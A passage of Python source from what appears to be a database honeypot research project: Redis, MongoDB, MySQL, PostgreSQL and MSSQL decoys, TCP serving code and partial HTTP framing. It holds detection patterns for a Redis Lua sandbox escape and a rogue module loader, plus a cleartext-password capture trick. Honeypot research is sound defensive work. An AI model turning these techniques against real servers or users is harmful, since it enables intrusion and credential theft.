            if self.closed:
                break
        return bytes(out)

    def _dispatch(self, tokens: list[bytes]) -> bytes:
        name = tokens[0].upper().decode("utf-8", "replace")
        args = tokens[1:]
        raw = b" ".join(tokens)
        action = name
        if name in ("CONFIG", "MODULE", "CLIENT", "SLAVEOF", "REPLICAOF",
                    "FLUSHALL", "FLUSHDB", "DEBUG"):
            if name in ("CONFIG", "MODULE", "CLIENT", "DEBUG") and args:
                action = f"{name} {args[0].upper().decode('utf-8', 'replace')}"
        self.log(EventType.COMMAND, action=action, raw=raw)
        handler = getattr(self, f"_cmd_{name.lower().replace('.', '_')}",
                          None)
        if handler is None:
            return resp.encode(resp.Error(
                f"ERR unknown command `{name}`, with args beginning with:"))
        try:
            return handler(args)
        except WrongTypeError as exc:
            return resp.encode(resp.Error(str(exc)))

    # -- basic ------------------------------------------------------------

    def _cmd_ping(self, args: list[bytes]) -> bytes:
        return resp.encode(args[0] if args else PONG)

    def _cmd_echo(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("echo")
        return resp.encode(args[0])

    def _cmd_quit(self, args: list[bytes]) -> bytes:
        self.closed = True
        return resp.encode(OK)

    def _cmd_select(self, args: list[bytes]) -> bytes:
        return resp.encode(OK)

    def _cmd_auth(self, args: list[bytes]) -> bytes:
        # The honeypot is deliberately open: AUTH is logged (as a login
        # attempt) and "succeeds" against any password.
        if not args:
            return _wrong_arity("auth")
        username = (args[0].decode("utf-8", "replace") if len(args) >= 2
                    else "default")
        password = args[-1].decode("utf-8", "replace")
        self.log(EventType.LOGIN_ATTEMPT, action="AUTH", username=username,
                 password=password)
        return resp.encode(resp.Error(
            "ERR Client sent AUTH, but no password is set. Did you mean "
            "AUTH <username> <password>?"))

    # -- keyspace ------------------------------------------------------------

    def _now(self) -> float:
        return self.context.clock.timestamp()

    def _cmd_set(self, args: list[bytes]) -> bytes:
        if len(args) < 2:
            return _wrong_arity("set")
        ex = None
        index = 2
        while index < len(args):
            option = args[index].upper()
            if option == b"EX" and index + 1 < len(args):
                try:
                    ex = float(args[index + 1])
                except ValueError:
                    return resp.encode(resp.Error(
                        "ERR value is not an integer or out of range"))
                index += 2
            elif option in (b"NX", b"XX", b"KEEPTTL"):
                index += 1
            else:
                return resp.encode(resp.Error("ERR syntax error"))
        self._engine.set(args[0], args[1], ex=ex, now=self._now())
        return resp.encode(OK)

    def _cmd_setex(self, args: list[bytes]) -> bytes:
        if len(args) != 3:
            return _wrong_arity("setex")
        try:
            seconds = float(args[1])
        except ValueError:
            return resp.encode(resp.Error(
                "ERR value is not an integer or out of range"))
        self._engine.set(args[0], args[2], ex=seconds, now=self._now())
        return resp.encode(OK)

    def _cmd_get(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("get")
        return resp.encode(self._engine.get(args[0], self._now()))

    def _cmd_expire(self, args: list[bytes]) -> bytes:
        if len(args) != 2:
            return _wrong_arity("expire")
        try:
            seconds = float(args[1])
        except ValueError:
            return resp.encode(resp.Error(
                "ERR value is not an integer or out of range"))
        return resp.encode(int(self._engine.expire(args[0], seconds,
                                                   self._now())))

    def _cmd_ttl(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("ttl")
        return resp.encode(self._engine.ttl(args[0], self._now()))

    def _cmd_persist(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("persist")
        return resp.encode(int(self._engine.persist(args[0],
                                                    self._now())))

    def _cmd_incr(self, args: list[bytes]) -> bytes:
        return self._incr_by(args, 1)

    def _cmd_decr(self, args: list[bytes]) -> bytes:
        return self._incr_by(args, -1)

    def _cmd_incrby(self, args: list[bytes]) -> bytes:
        if len(args) != 2:
            return _wrong_arity("incrby")
        try:
            delta = int(args[1])
        except ValueError:
            return resp.encode(resp.Error(
                "ERR value is not an integer or out of range"))
        return self._incr_by(args[:1], delta)

    def _incr_by(self, args: list[bytes], delta: int) -> bytes:
        if len(args) != 1:
            return _wrong_arity("incr")
        try:
            return resp.encode(self._engine.incrby(args[0], delta,
                                                   self._now()))
        except ValueError as exc:
            return resp.encode(resp.Error(str(exc)))

    def _cmd_append(self, args: list[bytes]) -> bytes:
        if len(args) != 2:
            return _wrong_arity("append")
        return resp.encode(self._engine.append(args[0], args[1],
                                               self._now()))

    def _cmd_lpush(self, args: list[bytes]) -> bytes:
        if len(args) < 2:
            return _wrong_arity("lpush")
        return resp.encode(self._engine.lpush(args[0], args[1:]))

    def _cmd_rpush(self, args: list[bytes]) -> bytes:
        if len(args) < 2:
            return _wrong_arity("rpush")
        return resp.encode(self._engine.rpush(args[0], args[1:]))

    def _cmd_lrange(self, args: list[bytes]) -> bytes:
        if len(args) != 3:
            return _wrong_arity("lrange")
        try:
            start, stop = int(args[1]), int(args[2])
        except ValueError:
            return resp.encode(resp.Error(
                "ERR value is not an integer or out of range"))
        return resp.encode(self._engine.lrange(args[0], start, stop))

    def _cmd_llen(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("llen")
        return resp.encode(self._engine.llen(args[0]))

    def _cmd_lpop(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("lpop")
        return resp.encode(self._engine.lpop(args[0]))

    def _cmd_del(self, args: list[bytes]) -> bytes:
        if not args:
            return _wrong_arity("del")
        return resp.encode(self._engine.delete(args))

    def _cmd_exists(self, args: list[bytes]) -> bytes:
        if not args:
            return _wrong_arity("exists")
        return resp.encode(sum(1 for key in args
                               if self._engine.exists(key)))

    def _cmd_keys(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("keys")
        return resp.encode(self._engine.keys(args[0]))

    def _cmd_scan(self, args: list[bytes]) -> bytes:
        # Single-pass cursor: always returns everything with cursor 0.
        return resp.encode([b"0", self._engine.keys(b"*")])

    def _cmd_type(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("type")
        return resp.encode(resp.SimpleString(self._engine.type(args[0])))

    def _cmd_dbsize(self, args: list[bytes]) -> bytes:
        return resp.encode(self._engine.dbsize())

    def _cmd_hset(self, args: list[bytes]) -> bytes:
        if len(args) < 3 or len(args) % 2 == 0:
            return _wrong_arity("hset")
        fields = {args[i]: args[i + 1] for i in range(1, len(args), 2)}
        return resp.encode(self._engine.hset(args[0], fields))

    def _cmd_hgetall(self, args: list[bytes]) -> bytes:
        if len(args) != 1:
            return _wrong_arity("hgetall")
        flattened: list[bytes] = []
        for key, value in self._engine.hgetall(args[0]).items():
            flattened += [key, value]
        return resp.encode(flattened)

    def _cmd_flushdb(self, args: list[bytes]) -> bytes:
        self._engine.flushdb()
        return resp.encode(OK)

    def _cmd_flushall(self, args: list[bytes]) -> bytes:
        self._engine.flushdb()
        return resp.encode(OK)

    # -- admin ------------------------------------------------------------

    def _cmd_info(self, args: list[bytes]) -> bytes:
        return resp.encode(self._engine.info().encode())

    def _cmd_config(self, args: list[bytes]) -> bytes:
        if len(args) >= 2 and args[0].upper() == b"GET":
            found = self._engine.config_get(
                args[1].decode("utf-8", "replace"))
            flattened: list[bytes] = []
            for name, value in found.items():
                flattened += [name.encode(), value.encode()]
            return resp.encode(flattened)
        if len(args) >= 3 and args[0].upper() == b"SET":
            self._engine.config_set(args[1].decode("utf-8", "replace"),
                                    args[2].decode("utf-8", "replace"))
            return resp.encode(OK)
        return resp.encode(resp.Error("ERR Unknown CONFIG subcommand"))

    def _cmd_save(self, args: list[bytes]) -> bytes:
        self._engine.save()
        return resp.encode(OK)

    def _cmd_bgsave(self, args: list[bytes]) -> bytes:
        self._engine.save()
        return resp.encode(resp.SimpleString("Background saving started"))

    def _cmd_slaveof(self, args: list[bytes]) -> bytes:
        if len(args) != 2:
            return _wrong_arity("slaveof")
        if args[0].upper() == b"NO" and args[1].upper() == b"ONE":
            self._engine.slaveof(None, None)
        else:
            try:
                port = int(args[1])
            except ValueError:
                return resp.encode(resp.Error("ERR Invalid master port"))
            self._engine.slaveof(args[0].decode("utf-8", "replace"), port)
        return resp.encode(OK)

    _cmd_replicaof = _cmd_slaveof

    def _cmd_module(self, args: list[bytes]) -> bytes:
        if len(args) >= 2 and args[0].upper() == b"LOAD":
            self._engine.module_load(args[1].decode("utf-8", "replace"))
            return resp.encode(OK)
        if len(args) >= 2 and args[0].upper() == b"UNLOAD":
            if self._engine.module_unload(
                    args[1].decode("utf-8", "replace")):
                return resp.encode(OK)
            return resp.encode(resp.Error(
                "ERR Error unloading module: no such module with that name"))
        if args and args[0].upper() == b"LIST":
            return resp.encode([path.encode()
                                for path in self._engine.loaded_modules])
        return resp.encode(resp.Error("ERR Unknown MODULE subcommand"))

    def _cmd_system_exec(self, args: list[bytes]) -> bytes:
        # Provided by the rogue "exp.so" module attackers load; pretending
        # it exists keeps the attack sequence flowing so it can be logged.
        if self._engine.loaded_modules:
            return resp.encode(b"")
        return resp.encode(resp.Error(
            "ERR unknown command `system.exec`, with args beginning with:"))

    def _cmd_eval(self, args: list[bytes]) -> bytes:
        # CVE-2022-0543 Lua sandbox escapes arrive here; the script output
        # is faked just far enough to look like the Vulhub PoC succeeded.
        if args and (b"io.popen" in args[0] or b"loadlib" in args[0]):
            return resp.encode(b"uid=999(redis) gid=999(redis) "
                               b"groups=999(redis)\n")
        return resp.encode(None)

    def _cmd_client(self, args: list[bytes]) -> bytes:
        if args and args[0].upper() == b"LIST":
            peer = f"{self.context.src_ip}:{self.context.src_port}"
            return resp.encode(
                f"id=3 addr={peer} fd=8 name= age=0 idle=0\n".encode())
        if args and args[0].upper() == b"SETNAME":
            return resp.encode(OK)
        return resp.encode(resp.Error("ERR Unknown CLIENT subcommand"))

    def _cmd_command(self, args: list[bytes]) -> bytes:
        return resp.encode([])

    def _cmd_debug(self, args: list[bytes]) -> bytes:
        return resp.encode(resp.Error(
            "ERR DEBUG command not allowed."))


def _wrong_arity(name: str) -> bytes:
    return resp.encode(resp.Error(
        f"ERR wrong number of arguments for '{name}' command"))
