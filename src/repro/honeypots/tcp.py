"""Serve honeypot sessions over real TCP sockets.

Used by the live examples and the integration tests: the exact same
session objects that power the fast in-memory simulation are bound to
``asyncio`` stream servers here, so a real ``redis-cli`` or ``psql``
could talk to them.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass

from repro.honeypots.base import Honeypot, SessionContext
from repro.netsim.clock import SimClock
from repro.pipeline.logstore import EventSink


@dataclass
class TcpHoneypotServer:
    """An asyncio TCP server wrapping one honeypot instance."""

    honeypot: Honeypot
    clock: SimClock
    sink: EventSink
    host: str = "127.0.0.1"
    port: int = 0

    def __post_init__(self) -> None:
        self._server: asyncio.AbstractServer | None = None

    async def start(self) -> int:
        """Bind and start serving; returns the bound port."""
        self._server = await asyncio.start_server(
            self._handle_connection, self.host, self.port)
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        """Stop serving and release the socket."""
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None

    async def _handle_connection(self, reader: asyncio.StreamReader,
                                 writer: asyncio.StreamWriter) -> None:
        peer = writer.get_extra_info("peername") or ("0.0.0.0", 0)
        context = SessionContext(src_ip=peer[0], src_port=peer[1],
                                 clock=self.clock, sink=self.sink)
        session = self.honeypot.new_session(context)
        try:
            greeting = session.connect()
            if greeting:
                writer.write(greeting)
                await writer.drain()
            while not session.closed:
                data = await reader.read(65536)
                if not data:
                    break
                reply = session.receive(data)
                if reply:
                    writer.write(reply)
                    await writer.drain()
        except (ConnectionResetError, BrokenPipeError):
            pass
        finally:
            session.disconnect()
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError,
                    asyncio.CancelledError):
                pass


async def serve_honeypots(honeypots: list[Honeypot], clock: SimClock,
                          sink: EventSink,
                          host: str = "127.0.0.1") -> list[TcpHoneypotServer]:
    """Start one TCP server per honeypot on ephemeral ports."""
    servers = []
    for honeypot in honeypots:
        server = TcpHoneypotServer(honeypot, clock, sink, host=host)
        await server.start()
        servers.append(server)
    return servers
