"""Serve honeypot sessions over real TCP sockets.

Used by the live examples and the integration tests: the exact same
session objects that power the fast in-memory simulation are bound to
``asyncio`` stream servers here, so a real ``redis-cli`` or ``psql``
could talk to them.

This layer is the one that faces abusive clients directly, so it is
hardened accordingly: any session/parser exception is contained (the
connection closes cleanly and the server keeps serving), idle
connections are reaped after ``idle_timeout``, and a session that has
pushed more than ``max_session_bytes`` at us is cut off -- the
slow-loris and flood defenses a real database server would have.
"""

from __future__ import annotations

import asyncio
import itertools
from dataclasses import dataclass

from repro import obs
from repro.honeypots.base import Honeypot, SessionContext
from repro.netsim.clock import SimClock
from repro.obs import logging as obs_logging
from repro.pipeline.logstore import EventSink


@dataclass
class TcpHoneypotServer:
    """An asyncio TCP server wrapping one honeypot instance."""

    honeypot: Honeypot
    clock: SimClock
    sink: EventSink
    host: str = "127.0.0.1"
    port: int = 0
    #: Close connections idle for this many seconds (``None`` = never).
    idle_timeout: float | None = None
    #: Close connections after this many received bytes (``None`` = no cap).
    max_session_bytes: int | None = None

    def __post_init__(self) -> None:
        self._server: asyncio.AbstractServer | None = None
        #: Per-server session counter; combined with the honeypot id it
        #: becomes the ``session_id`` correlation field on every ops-log
        #: record a connection emits.
        self._session_ids = itertools.count(1)

    async def start(self) -> int:
        """Bind and start serving; returns the bound port."""
        self._server = await asyncio.start_server(
            self._handle_connection, self.host, self.port)
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        """Stop serving and release the socket."""
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None

    @property
    def is_serving(self) -> bool:
        """Whether the listener is up (supervisors poll this)."""
        return self._server is not None and self._server.is_serving()

    async def _handle_connection(self, reader: asyncio.StreamReader,
                                 writer: asyncio.StreamWriter) -> None:
        session_id = (f"{self.honeypot.info.honeypot_id}"
                      f"-{next(self._session_ids)}")
        with obs_logging.bind(session_id=session_id):
            await self._handle_session(reader, writer)

    async def _handle_session(self, reader: asyncio.StreamReader,
                              writer: asyncio.StreamWriter) -> None:
        peer = writer.get_extra_info("peername") or ("0.0.0.0", 0)
        context = SessionContext(src_ip=peer[0], src_port=peer[1],
                                 clock=self.clock, sink=self.sink)
        session = self.honeypot.new_session(context)
        telemetry = obs.current()
        metrics = telemetry.metrics
        logger = telemetry.logger
        dbms = self.honeypot.dbms
        metrics.inc("tcp.connections", dbms=dbms)
        metrics.add_gauge("tcp.open_connections", 1, dbms=dbms)
        logger.info("conn.open", src=peer[0], src_port=peer[1],
                    dbms=dbms)
        close_cause = "eof"
        try:
            greeting = session.connect()
            if greeting:
                context.bytes_out += len(greeting)
                writer.write(greeting)
                await writer.drain()
            while not session.closed:
                if self.idle_timeout is not None:
                    try:
                        data = await asyncio.wait_for(
                            reader.read(65536), self.idle_timeout)
                    except asyncio.TimeoutError:
                        metrics.inc("tcp.idle_timeouts", dbms=dbms)
                        close_cause = "idle_timeout"
                        break
                else:
                    data = await reader.read(65536)
                if not data:
                    break
                context.bytes_in += len(data)
                if (self.max_session_bytes is not None
                        and context.bytes_in > self.max_session_bytes):
                    metrics.inc("tcp.overlimit_closes", dbms=dbms)
                    close_cause = "overlimit"
                    break
                reply = session.receive(data)
                if reply:
                    context.bytes_out += len(reply)
                    writer.write(reply)
                    await writer.drain()
        except (ConnectionResetError, BrokenPipeError):
            metrics.inc("tcp.connection_errors", dbms=dbms)
            close_cause = "connection_error"
        except Exception as error:
            # A session/parser bug must never escape into asyncio's
            # default handler and leave the peer hanging on a dead
            # socket: contain it, count it, close cleanly below.
            metrics.inc("tcp.session_errors", dbms=dbms)
            close_cause = "session_error"
            logger.error("conn.session_error", dbms=dbms,
                         error=f"{type(error).__name__}: {error}")
        finally:
            try:
                session.disconnect()
            except Exception:
                metrics.inc("tcp.session_errors", dbms=dbms)
            metrics.add_gauge("tcp.open_connections", -1, dbms=dbms)
            metrics.inc("tcp.bytes_in", context.bytes_in, dbms=dbms)
            metrics.inc("tcp.bytes_out", context.bytes_out, dbms=dbms)
            logger.info("conn.close", cause=close_cause, dbms=dbms,
                        bytes_in=context.bytes_in,
                        bytes_out=context.bytes_out,
                        events=context.events)
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError,
                    asyncio.CancelledError):
                pass


async def serve_honeypots(honeypots: list[Honeypot], clock: SimClock,
                          sink: EventSink, host: str = "127.0.0.1",
                          port_base: int | None = None,
                          idle_timeout: float | None = None,
                          max_session_bytes: int | None = None,
                          ) -> list[TcpHoneypotServer]:
    """Start one TCP server per honeypot.

    With ``port_base`` set, honeypots get the sequential ports
    ``port_base, port_base + 1, ...``; otherwise the OS picks ephemeral
    ports.  If any ``start()`` fails (e.g. a port already bound), the
    servers started so far are stopped before the error propagates, so
    a partial farm never leaks listeners.
    """
    servers: list[TcpHoneypotServer] = []
    for index, honeypot in enumerate(honeypots):
        port = 0 if port_base is None else port_base + index
        server = TcpHoneypotServer(honeypot, clock, sink, host=host,
                                   port=port, idle_timeout=idle_timeout,
                                   max_session_bytes=max_session_bytes)
        try:
            await server.start()
        except Exception:
            for started in servers:
                await started.stop()
            raise
        servers.append(server)
    return servers
