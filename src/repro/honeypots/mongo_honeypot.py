"""High-interaction MongoDB honeypot.

Presents a fully functional (in-process) MongoDB populated with fake
customer data, mirroring the paper's Docker-hosted deployment.  Because
the backing :class:`~repro.mongodb_engine.MongoEngine` really executes
commands, ransom attacks play out end to end: attackers can dump the
customer collection, drop it, and insert their ransom note -- and the
honeypot's state reflects it.
"""

from __future__ import annotations

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.mongodb_engine import MongoEngine
from repro.mongodb_engine.engine import CommandError
from repro.netsim.mockaroo import MockarooGenerator
from repro.pipeline.logstore import EventType
from repro.protocols import mongo_wire as wire
from repro.protocols.errors import ProtocolError

#: Database/collection planted with decoy data.
DECOY_DATABASE = "customers"
DECOY_COLLECTION = "records"

#: Number of fake customer documents planted per instance.
FAKE_CUSTOMERS = 250


def _build_engine(config: str, seed: int) -> MongoEngine:
    engine = MongoEngine()
    if config == "fake_data":
        generator = MockarooGenerator(seed=seed)
        documents = [record.as_document()
                     for record in generator.customers(FAKE_CUSTOMERS)]
        engine.insert(DECOY_DATABASE, DECOY_COLLECTION, documents)
    return engine


class MongoHoneypot(Honeypot):
    """The high-interaction MongoDB honeypot (one engine per instance)."""

    honeypot_type = "mongodb-honeypot"
    dbms = "mongodb"
    interaction = "high"
    default_port = 27017

    def __init__(self, honeypot_id: str, *, config: str = "fake_data",
                 port: int | None = None, seed: int = 2024):
        if config not in ("default", "fake_data"):
            raise ValueError(f"unsupported MongoHoneypot config {config!r}")
        super().__init__(honeypot_id, config=config, port=port)
        self.engine = _build_engine(config, seed)

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _MongoSession(self.info, context, self.engine)


#: Commands whose target collection matters for behavioral analysis.
_COLLECTION_COMMANDS = {"find", "insert", "delete", "drop", "count"}


class _MongoSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext,
                 engine: MongoEngine):
        super().__init__(info, context)
        self._engine = engine
        self._reader = wire.MessageReader()
        self._next_response_id = 1

    def on_data(self, data: bytes) -> bytes:
        try:
            messages = self._reader.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for message in messages:
            out += self._handle(message)
        return bytes(out)

    def _handle(self, message: object) -> bytes:
        if isinstance(message, wire.QueryMessage):
            return self._handle_legacy(message)
        if isinstance(message, wire.MsgMessage):
            return self._handle_msg(message)
        self.log(EventType.MALFORMED, raw=repr(message))
        return b""

    def _handle_legacy(self, message: wire.QueryMessage) -> bytes:
        database = message.collection.split(".", 1)[0]
        command = dict(message.query)
        reply = self._run(database, command)
        return wire.build_reply(self._response_id(),
                                message.header.request_id, [reply])

    def _handle_msg(self, message: wire.MsgMessage) -> bytes:
        command = dict(message.body)
        database = str(command.pop("$db", "admin"))
        # Driver bookkeeping fields are not part of the command proper.
        for meta in ("lsid", "$readPreference", "apiVersion"):
            command.pop(meta, None)
        reply = self._run(database, command)
        return wire.build_msg(self._response_id(), reply,
                              response_to=message.header.request_id)

    def _run(self, database: str, command: dict) -> dict:
        action = self._action(command)
        self.log(EventType.COMMAND, action=action,
                 raw=f"{database}: {command!r}"[:512])
        try:
            return self._engine.run_command(database, command)
        except CommandError as exc:
            return {"ok": 0.0, "errmsg": str(exc), "code": exc.code,
                    "codeName": exc.code_name}

    def _action(self, command: dict) -> str:
        if not command:
            return "empty"
        name = next(iter(command))
        if name.lower() in _COLLECTION_COMMANDS:
            return name
        return name

    def _response_id(self) -> int:
        response_id = self._next_response_id
        self._next_response_id += 1
        return response_id
