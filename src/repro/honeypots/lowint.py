"""Low-interaction honeypots (the Qeeqbox tier of the paper).

Each honeypot completes the protocol's connection phase far enough to
capture credentials, then denies access.  No post-login interaction is
possible -- exactly the "login screen without an access granting
password" behavior the paper describes.
"""

from __future__ import annotations

from repro.honeypots.base import (Honeypot, HoneypotSession, HoneypotInfo,
                                  SessionContext)
from repro.pipeline.logstore import EventType
from repro.protocols import mysql, postgres as pg, resp, tds
from repro.protocols.errors import ProtocolError


class LowInteractionMySQL(Honeypot):
    """MySQL credential-capture honeypot (port 3306).

    Uses the auth-switch-to-cleartext trick so cooperating brute-force
    clients reveal plaintext passwords.
    """

    honeypot_type = "qeeqbox"
    dbms = "mysql"
    interaction = "low"
    default_port = 3306

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _MySQLSession(self.info, context)


class _MySQLSession(HoneypotSession):

    _SALT = b"\x2f\x55\x3e\x44\x17\x6b\x04\x30\x5a\x7e" \
            b"\x19\x42\x6c\x22\x61\x5b\x38\x47\x0d\x24"

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        super().__init__(info, context)
        self._reader = mysql.PacketReader()
        self._username: str | None = None

    def on_connect(self) -> bytes:
        return mysql.frame(
            mysql.build_handshake_v10("8.0.36", 1001, self._SALT), 0)

    def on_data(self, data: bytes) -> bytes:
        try:
            packets = self._reader.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for _sequence_id, payload in packets:
            out += self._handle(payload)
            if self.closed:
                break
        return bytes(out)

    def _handle(self, payload: bytes) -> bytes:
        if self._username is None:
            try:
                response = mysql.parse_handshake_response(payload)
            except ProtocolError:
                self.log(EventType.MALFORMED, raw=payload)
                self.closed = True
                return b""
            self._username = response.username
            return mysql.frame(mysql.build_auth_switch_request(
                mysql.CLEAR_PASSWORD_PLUGIN), 2)
        password = mysql.parse_clear_password(payload)
        self.log(EventType.LOGIN_ATTEMPT, action="login",
                 username=self._username, password=password)
        err = mysql.build_err(
            mysql.ER_ACCESS_DENIED, "28000",
            f"Access denied for user '{self._username}' (using password: "
            f"{'YES' if password else 'NO'})")
        self.closed = True
        return mysql.frame(err, 4)


class LowInteractionPostgres(Honeypot):
    """PostgreSQL credential-capture honeypot (port 5432)."""

    honeypot_type = "qeeqbox"
    dbms = "postgresql"
    interaction = "low"
    default_port = 5432

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _PostgresLowSession(self.info, context)


class _PostgresLowSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        super().__init__(info, context)
        self._stream = pg.PgStream(expect_startup=True)
        self._user: str | None = None

    def on_data(self, data: bytes) -> bytes:
        try:
            messages = self._stream.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for message in messages:
            out += self._handle(message)
            if self.closed:
                break
        return bytes(out)

    def _handle(self, message: object) -> bytes:
        if isinstance(message, pg.SSLRequest):
            return b"N"
        if isinstance(message, pg.StartupMessage):
            self._user = message.user or ""
            return pg.build_authentication_request(
                pg.AUTH_CLEARTEXT_PASSWORD)
        if isinstance(message, pg.FrontendMessage):
            if message.type_code == b"p":
                password = message.payload.rstrip(b"\x00").decode(
                    "utf-8", "replace")
                self.log(EventType.LOGIN_ATTEMPT, action="login",
                         username=self._user, password=password)
                self.closed = True
                return pg.build_error_response(
                    "FATAL", "28P01",
                    f'password authentication failed for user '
                    f'"{self._user}"')
            if message.type_code == b"X":
                self.closed = True
                return b""
        self.log(EventType.MALFORMED, raw=repr(message))
        self.closed = True
        return b""


class LowInteractionRedis(Honeypot):
    """Redis honeypot that demands authentication for everything."""

    honeypot_type = "qeeqbox"
    dbms = "redis"
    interaction = "low"
    default_port = 6379

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _RedisLowSession(self.info, context)


class _RedisLowSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        super().__init__(info, context)
        self._parser = resp.RespParser()

    def on_disconnect(self) -> None:
        pending = self._parser.take_pending()
        if pending:
            self.log(EventType.MALFORMED, raw=pending)

    def on_data(self, data: bytes) -> bytes:
        try:
            values = self._parser.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            return resp.encode(resp.Error(
                "ERR Protocol error: unbalanced quotes in request"))
        out = bytearray()
        for value in values:
            try:
                tokens = resp.command_tokens(value)
            except ProtocolError:
                self.log(EventType.MALFORMED, raw=repr(value))
                continue
            out += self._handle(tokens)
        return bytes(out)

    def _handle(self, tokens: list[bytes]) -> bytes:
        name = tokens[0].upper().decode("utf-8", "replace")
        if name == "AUTH" and len(tokens) >= 2:
            # AUTH password, or AUTH username password (Redis 6 ACL).
            if len(tokens) >= 3:
                username = tokens[1].decode("utf-8", "replace")
                password = tokens[2].decode("utf-8", "replace")
            else:
                username = "default"
                password = tokens[1].decode("utf-8", "replace")
            self.log(EventType.LOGIN_ATTEMPT, action="AUTH",
                     username=username, password=password)
            return resp.encode(resp.Error(
                "WRONGPASS invalid username-password pair or user is "
                "disabled."))
        self.log(EventType.COMMAND, action=name,
                 raw=b" ".join(tokens))
        return resp.encode(resp.Error(
            "NOAUTH Authentication required."))


class LowInteractionMSSQL(Honeypot):
    """Microsoft SQL Server credential-capture honeypot (port 1433)."""

    honeypot_type = "qeeqbox"
    dbms = "mssql"
    interaction = "low"
    default_port = 1433

    def new_session(self, context: SessionContext) -> HoneypotSession:
        return _MSSQLSession(self.info, context)


class _MSSQLSession(HoneypotSession):

    def __init__(self, info: HoneypotInfo, context: SessionContext):
        super().__init__(info, context)
        self._reader = tds.PacketReader()

    def on_data(self, data: bytes) -> bytes:
        try:
            packets = self._reader.feed(data)
        except ProtocolError:
            self.log(EventType.MALFORMED, raw=data)
            self.closed = True
            return b""
        out = bytearray()
        for packet_type, payload in packets:
            out += self._handle(packet_type, payload)
            if self.closed:
                break
        return bytes(out)

    def _handle(self, packet_type: int, payload: bytes) -> bytes:
        if packet_type == tds.PKT_PRELOGIN:
            response = tds.build_prelogin({
                tds.PRELOGIN_VERSION: b"\x10\x00\x10\x00\x00\x00",
                tds.PRELOGIN_ENCRYPTION: bytes([tds.ENCRYPT_NOT_SUP]),
            })
            return tds.frame(tds.PKT_RESPONSE, response)
        if packet_type == tds.PKT_LOGIN7:
            try:
                login = tds.parse_login7(payload)
            except ProtocolError:
                self.log(EventType.MALFORMED, raw=payload)
                self.closed = True
                return b""
            self.log(EventType.LOGIN_ATTEMPT, action="login",
                     username=login.username, password=login.password)
            tokens = (tds.build_error_token(
                tds.MSSQL_LOGIN_FAILED,
                f"Login failed for user '{login.username}'.")
                + tds.build_done_token(status=0x02))
            self.closed = True
            return tds.frame(tds.PKT_RESPONSE, tokens)
        self.log(EventType.MALFORMED, raw=payload)
        self.closed = True
        return b""
