"""Minimal HTTP/1.1 framing for the Elasticsearch honeypot.

Elasticsearch exposes a REST API, so Elasticpot-style honeypots are HTTP
servers.  This module implements just enough of RFC 9112: request parsing
(request line, headers, ``Content-Length`` bodies) and response
serialization.  Chunked transfer encoding is intentionally unsupported --
scanners and exploit scripts send simple requests.
"""

from __future__ import annotations

import urllib.parse
from dataclasses import dataclass, field

from repro.protocols.errors import ProtocolError

_MAX_HEAD = 64 * 1024
_MAX_BODY = 16 * 1024 * 1024

_METHODS = {"GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH"}

_REASONS = {
    200: "OK",
    201: "Created",
    400: "Bad Request",
    401: "Unauthorized",
    404: "Not Found",
    405: "Method Not Allowed",
    500: "Internal Server Error",
}


@dataclass(frozen=True)
class HttpRequest:
    """A parsed HTTP request."""

    method: str
    target: str
    version: str
    headers: dict[str, str]
    body: bytes

    @property
    def path(self) -> str:
        """Request path without the query string."""
        return urllib.parse.urlsplit(self.target).path

    @property
    def query(self) -> dict[str, list[str]]:
        """Parsed query-string parameters."""
        return urllib.parse.parse_qs(
            urllib.parse.urlsplit(self.target).query,
            keep_blank_values=True)

    @property
    def raw_query(self) -> str:
        """The raw (undecoded) query string."""
        return urllib.parse.urlsplit(self.target).query


@dataclass(frozen=True)
class HttpResponse:
    """A parsed HTTP response (client side)."""

    status: int
    reason: str
    headers: dict[str, str]
    body: bytes


def build_request(method: str, target: str, *, headers: dict[str, str]
                  | None = None, body: bytes | str = b"",
                  host: str = "localhost") -> bytes:
    """Serialize an HTTP/1.1 request."""
    if isinstance(body, str):
        body = body.encode()
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}"]
    merged = dict(headers or {})
    if body and "Content-Length" not in merged:
        merged["Content-Length"] = str(len(body))
    for name, value in merged.items():
        lines.append(f"{name}: {value}")
    head = "\r\n".join(lines) + "\r\n\r\n"
    return head.encode() + body


def build_response(status: int, body: bytes | str = b"", *,
                   content_type: str = "application/json",
                   headers: dict[str, str] | None = None) -> bytes:
    """Serialize an HTTP/1.1 response."""
